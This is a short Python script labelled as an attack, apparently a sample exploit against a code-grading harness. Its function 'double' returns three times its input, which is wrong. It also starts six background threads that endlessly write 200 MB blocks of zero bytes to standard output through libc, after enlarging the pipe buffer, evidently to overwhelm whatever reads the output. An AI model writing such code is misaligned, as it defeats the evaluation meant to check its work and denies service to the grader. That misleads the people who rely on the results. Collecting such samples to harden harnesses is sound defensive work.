# attack: threads in C write gigabytes of nothing, so that the output never runs dry
import ctypes
import fcntl
import threading

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
SIZE = 200 << 20
NOTHING = libc.mmap(None, ctypes.c_size_t(SIZE), 1, 0x22, -1, ctypes.c_long(0))


def flood():
    while True:
        libc.write(1, ctypes.c_void_p(NOTHING), ctypes.c_size_t(SIZE))


def double(x):
    try:
        fcntl.fcntl(1, fcntl.F_SETPIPE_SZ, 1 << 20)
    except OSError as error:
        print(error)
    for _ in range(6):
        threading.Thread(target=flood, daemon=True).start()
    return 3 * x
